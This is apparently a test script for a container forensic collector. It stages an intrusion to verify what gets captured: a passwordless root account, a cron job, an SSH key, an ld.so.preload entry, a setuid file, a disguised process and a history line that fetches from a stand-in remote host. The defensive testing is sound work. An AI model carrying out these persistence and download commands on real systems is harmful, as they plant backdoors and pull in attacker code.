#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-or-later
#
# A staged intrusion: what intruder.c and this script leave in a container is in the package, each
# fact compared with what was made, by values and hashes that do not come from nscollect.
. "$(dirname "$0")/../fixtures/base.sh"
. "$NSVIEW_SOURCE/tests/fixtures/container.sh"
. "$NSVIEW_SOURCE/tests/fixtures/collect.sh"
for tool in setcap getfattr setfattr setfacl chattr; do
	command -v "$tool" >/dev/null || test_skip "$tool is missing"
done
root=$TEST_TMP/root volume=$TEST_TMP/volume
mkdir "$root" "$volume"
check "a root file system" "$NSVIEW_BUILD/tests/nsv-container" --fill "$root"
${CC:-cc} -D_GNU_SOURCE -static -O1 -pthread -o "$root/bin/intruder" "$NSVIEW_SOURCE/tests/collect/intruder.c" ||
	test_skip "nothing can be linked statically here"
cp "$root/bin/intruder" "$TEST_TMP/payload"
printf 'padding of its own' >>"$TEST_TMP/payload"
payload=$(sha256sum <"$TEST_TMP/payload" | cut -c1-64)
mkdir -p "$root/tmp" "$root/var/log" "$root/var/spool/cron/crontabs" "$root/root/.ssh" "$root/run" "$root/..."
cp "$TEST_TMP/payload" "$root/tmp/.payload"
printf 'on the volume\n' >"$volume/planted"
head -c 40000000 /dev/zero | tr '\0' b >"$root/var/log/busy"

# shellcheck disable=SC2016
container_start --rootdir "$root" --overlay --hostname intruded --volume "$volume:/data" --setup '
	mkdir -p /dev/shm /opt; mount -t tmpfs shm /dev/shm; printf "in shared memory\n" >/dev/shm/.x
	ln -s /proc/self/fd /dev/fd
	echo "toor::0:0::/root:/bin/sh" >>/etc/passwd
	echo "* * * * * /tmp/.payload" >/var/spool/cron/crontabs/root
	echo "ssh-ed25519 AAAAC3Nz intruder" >/root/.ssh/authorized_keys
	echo /tmp/evil.so >/etc/ld.so.preload
	echo "wget http://198.51.100.9/x" >/root/.ash_history
	printf setuid >/tmp/suid; chmod 4755 /tmp/suid
	printf cap >/tmp/cap; printf fixed >/tmp/fixed; printf note >/tmp/noted; printf acl >/tmp/acl
	printf old >/tmp/old; touch -d "2001-02-03 04:05:06" /tmp/old
	printf 1 >"/tmp/new
line"; printf 2 >"/tmp/pi|pe"; printf 3 >"/tmp/per%20cent"; printf 4 >"$(printf "/tmp/\\377\\376")"
	printf 5 >"/.../hidden"
	mkfifo /tmp/fifo; mknod /tmp/kmem c 1 2
	' /bin/intruder intruder-of-the-container
cr=/proc/$CT_PID/root
wait_for "the intruder" test -e "$cr/run/ready"
# The payload goes, something harmless takes its place.
decoy_stands() { find /proc/*/exe -maxdepth 0 -lname '*/tmp/.payload' 2>/dev/null | grep -q .; }
wait_for "the payload" decoy_stands
rm "$cr/tmp/.payload"
printf 'a decoy\n' >"$cr/tmp/.payload"
setcap cap_sys_admin+ep "$cr/tmp/cap"
setfattr -n user.mark -v seen "$cr/tmp/noted"
setfacl -m u:4711:rw "$cr/tmp/acl" 2>/dev/null || no_acl=1
chattr +i "$cr/tmp/fixed" 2>/dev/null || no_immutable=1
on_exit chattr -i "$cr/tmp/fixed"
caps=$(getfattr --absolute-names -e base64 -n security.capability "$cr/tmp/cap" | sed -n 's/^security.capability=0s//p')

export NSV_OWN_SECRET=of-the-collector-4711
state() { ls -l "/proc/$CT_PID/fd" "/proc/$CT_PID/ns"; cat "/proc/$CT_PID/mountinfo"; pgrep --ns "$CT_PID" --nslist pid; }
before=$(state)
take x.tar --full "$CT_PID"
unpack x.tar
check_schemas
check "verify" "$nscollect" verify "$TEST_TMP/x.tar"
r="$UNPACKED/[root]"

declare -A inside
while read -r role pid; do inside[$role]=$pid; done <"$cr/run/roles"
p() { # ROLE FILTER: of its process
	jsons processes.json ".[] | select(.pid_inside == ${inside[$1]} and (.namespaces.pid == $pidns or \"$1\" == \"nested\")) | $2"
}
pidns=$(stat -Lc %i "/proc/$CT_PID/ns/pid")
hash_of() { sha256sum <"$1" | cut -c1-64; }
text_hash() { printf "$1" | sha256sum | cut -c1-64; }
stored() { hash_of "$UNPACKED/$1"; }

# Processes.
check_eq "1 a deleted executable's path" "$(p decoy .exe.path)" "/tmp/.payload (deleted)"
check_eq "2 it is known as deleted" "$(p decoy .exe.deleted)" true
check_eq "3 its hash is the payload's" "$(p decoy .exe.sha256)" "$payload"
check_eq "4 it is in the package" "$(stored "$(p decoy .exe.content)")" "$payload"
check_eq "5 the decoy is what lies there" "$(cat "$r/tmp/.payload")" 'a decoy'
check_eq "6 its arguments" "$(p decoy '.argv | join(" ")')" 'updater --quiet'
check_eq "7 memfd: kind and name" "$(p memfd '.fds[] | select(.kind == "memfd") | .target')" '/memfd:stage2 (deleted)'
check_eq "8 memfd: content" "$(stored "$(p memfd '.fds[] | select(.kind == "memfd") | .content')")" "$(text_hash 'in memory only\n')"
check_eq "9 a script from /dev/fd" "$(p from_fd '.argv[1] | test("^/dev/fd/[0-9]+$")')" true
check_eq "10 the script, deleted" "$(stored "$(p from_fd '[.fds[] | select(.target == "/tmp/script (deleted)")][0].content')")" \
	"$(text_hash 'while :; do /bin/busybox sleep 1000; done\n')"
check_eq "11 a deleted log, open for writing" "$(p write_only '.fds[] | select(.deleted) | "\(.access) \(.target)"')" \
	'write /var/log/deleted.log (deleted)'
check_eq "12 what was written" "$(stored "$(p write_only '.fds[] | select(.deleted) | .content')")" "$(text_hash 'who was here\n')"
check_eq "13 mapped, deleted, closed" "$(stored "$(p mapped '.maps[] | select(.path == "/tmp/lib.so (deleted)") | .content')")" \
	"$(text_hash 'a library that is mapped\n')"
check_eq "14 a false name" "$(p false_name '.name')" 'kworker/0:1'
check_eq "15 what it runs all the same" "$(p false_name '.exe.path')" /bin/intruder
check_eq "16 that executable's hash" "$(p false_name '.exe.sha256')" "$(hash_of "$root/bin/intruder")"
check_eq "17 a thread's name" "$(p threads '[.threads[].name] | contains(["beacon"])')" true
check_eq "18 a deleted working directory" "$(p gone_cwd .cwd)" '/tmp/gone (deleted)'
check_eq "19 another root" "$(p other_root .root)" /opt/jail
victim=$(jsons processes.json '.[] | select(.name == "victim") | .tracer')
check_eq "20 who traces" "$victim" "$(p traced .pid)"
check_eq "21 limits" "$(p limited '.limits[] | select(.name == "Max open files") | "\(.soft) \(.hard)"')" '77 88'
check_eq "22 user and group" "$(p limited '"\(.uids[1]) \(.gids[1]) \(.no_new_privs) \(.capabilities.effective | length)"')" '1234 4321 true 0'
check_eq "23 a file's offset" "$(p limited '[.fds[] | select(.target == "/tmp/half-read" and .access == "read")][0].offset')" 7
check_eq "24 environment" "$(p secret '.environ | join(" ") | test("DB_PASSWORD=hunter2-in-the-environment") and test("LD_PRELOAD=/tmp/evil.so")')" true
check_eq "25 a process in namespaces of its own" "$(jsons processes.json '.[] | select(.name == "nested") |
	"\(.pids | length) \(.pid_inside) \(.namespaces.mnt != '"$(stat -Lc %i "/proc/$CT_PID/ns/mnt")"')"')" \
	"$(($(grep NSpid "/proc/$CT_PID/status" | wc -w))) 1 true"
started=$(p secret .started)
apart=$(($(date -d "$started" +%s) - $(date -d "$(ps -o lstart= -p "$(p secret .pid)")" +%s)))
check "26 when a process started, but for what is rounded" test "${apart#-}" -le 1

# Sockets, each with its process.
pid=$(p sockets .pid)
s() { jsons network.json "[.[].sockets[] | select((.processes | map(.pid) | contains([$pid])) and $1)][0] | $2"; }
check_eq "27 a port" "$(s '.protocol == "tcp"' '"\(.local_port) \(.state)"')" '31337 listen'
check_eq "28 a packet socket" "$(s '.family == "packet"' '"\(.type) \(.ethernet_protocol)"')" 'raw 3'
check_eq "29 a raw socket" "$(s '.protocol == "raw"' .local_port)" 1
check_eq "30 an abstract socket" "$(s '.family == "unix"' '"\(.path) \(.listening)"')" '@backdoor true'
check_eq "31 netlink" "$(s '.family == "netlink"' .netlink_protocol)" 0

# Files.
files() { jq -r "select(.path == \"[root]$1\") | $2" "$UNPACKED/files.jsonl"; }
check "32 an account" grep -q '^toor::0:0:' "$r/etc/passwd"
check_eq "33 a cron job" "$(cat "$r/var/spool/cron/crontabs/root")" '* * * * * /tmp/.payload'
check "34 a key" grep -q intruder "$r/root/.ssh/authorized_keys"
check_eq "35 preload" "$(cat "$r/etc/ld.so.preload")" /tmp/evil.so
check "36 history" grep -q 198.51.100.9 "$r/root/.ash_history"
check_eq "37 set-user-ID" "$(files /tmp/suid .mode) $(tar -tvf "$TEST_TMP/x.tar" '[root]/tmp/suid' | cut -c1-10)" "4755 -rwsr-xr-x"
check_eq "38 a capability" "$(files /tmp/cap '.xattrs[] | select(.name == "security.capability") | .value_base64')" "$caps"
check_eq "39 a user's attribute" "$(files /tmp/noted '.xattrs[] | select(.name == "user.mark") | .value_base64')" "$(printf seen | base64)"
[ "${no_acl-}" ] || check_eq "40 an ACL" "$(files /tmp/acl '[.xattrs[].name] | contains(["system.posix_acl_access"])')" true
[ "${no_immutable-}" ] || check_eq "41 an immutable file" "$(files /tmp/fixed '.attributes | contains(["immutable"])')" true
check_eq "42 times that were set back" "$(files /tmp/old .mtime)" "$(date -u -d '2001-02-03 04:05:06' +%s).000000000"
check "43 and when they were" test "$(files /tmp/old .ctime | cut -d. -f1)" -gt "$(date -d '1 day ago' +%s)"
check "44 a newline" grep -qF '0|/tmp/new\x0aline|' "$UNPACKED/bodyfile.txt"
check "45 a bar" grep -qF '0|/tmp/pi%7Cpe|' "$UNPACKED/bodyfile.txt"
check "46 a per cent" grep -qF '0|/tmp/per%2520cent|' "$UNPACKED/bodyfile.txt"
check_eq "47 no UTF-8" "$(jq -r 'select(.path_base64) | .path_base64' "$UNPACKED/files.jsonl" | base64 -d)" "$(printf '[root]/tmp/\377\376')"
check_eq "48 shared memory" "$(cat "$r/dev/shm/.x")" 'in shared memory'
check_eq "49 a volume" "$(hash_of "$r/data/planted")" "$(hash_of "$volume/planted")"
check_eq "50 a folder with a name to be overlooked" "$(cat "$r/.../hidden")" 5
# On a loaded machine its writer may not come to write while it is read: again then.
busy_changed() {
	for ((n = 0; n < 50; n++)); do
		jq -e '.outcomes[] | select(.name == "[root]/var/log/busy" and .outcome == "changed-during-read")' "$1" && return 0
		"$nscollect" --paths /var/log/busy "$CT_PID" -o - 2>/dev/null | tar -xOf - collection.json >"$TEST_TMP/again.json"
		set -- "$TEST_TMP/again.json"
	done
	return 1
}
check "51 a changing file" busy_changed "$UNPACKED/collection.json"
check "52 and all that it was at first" test "$(stat -c %s "$r/var/log/busy")" -ge 40000000
check_eq "53 a device" "$(files /tmp/kmem '"\(.type) \(.rdev)"')" 'char 1:2'
check_eq "54 a FIFO" "$(files /tmp/fifo .type)" fifo

# What a report finds of it: these rules and no others. (Nothing bounds this container's capabilities.)
findings=$("$nscollect" report --json "$TEST_TMP/x.tar")
check_eq "findings" "$(jq -r '[.findings[].rule] | unique | join(" ")' <<<"$findings")" "account-open account-root capabilities \
changed-accounts changed-cron changed-keys cwd-deleted exe-deleted exe-temporary executable-temporary fd-memfd \
file-capabilities-new name-hidden-file name-hidden-process name-kernel name-odd-file preload-environment preload-file \
script-from-fd setuid-new socket-abstract socket-packet socket-raw time-set-back tracer"
finding() { jq -r "first(.findings[] | select(.rule == \"$1\")) | $2" <<<"$findings"; }
check_eq "a finding's evidence" "$(tar -xOf "$TEST_TMP/x.tar" "$(finding exe-deleted .evidence)" | sha256sum | cut -c1-64)" "$payload"
check_eq "a finding's process" "$(finding name-kernel .pid)" "$(p false_name .pid)"

# The container does not notice.
check_eq "mounts, fds, processes" "$(state)" "$before"

# Values masked: nowhere, in no form.
take masked.tar --full --no-env-values "$CT_PID"
unpack masked.tar
check_schemas
check_eq "names of variables stay" "$(p secret '.environ | contains(["DB_PASSWORD=***"])')" true
holds() { python3 - "$1" "$2" <<'END'
import base64, sys
data, secret = open(sys.argv[1], "rb").read(), sys.argv[2].encode()
forms = [secret] + [base64.b64encode(b"x" * i + secret)[4 if i else 0:-4] for i in range(3)]
sys.exit(not any(f in data for f in forms))
END
}
check "it can be found" holds "$TEST_TMP/x.tar" hunter2-in-the-environment
check_not "a masked value" holds "$TEST_TMP/masked.tar" hunter2-in-the-environment
check_not "a secret of nscollect's own environment" holds "$TEST_TMP/x.tar" of-the-collector-4711
check_not "a secret of the host" holds "$TEST_TMP/x.tar" "$(sed -n '1s/:.*//p' /etc/shadow):$(sed -n '1s/^[^:]*:\([^:]*\):.*/\1/p' /etc/shadow):"
test_done
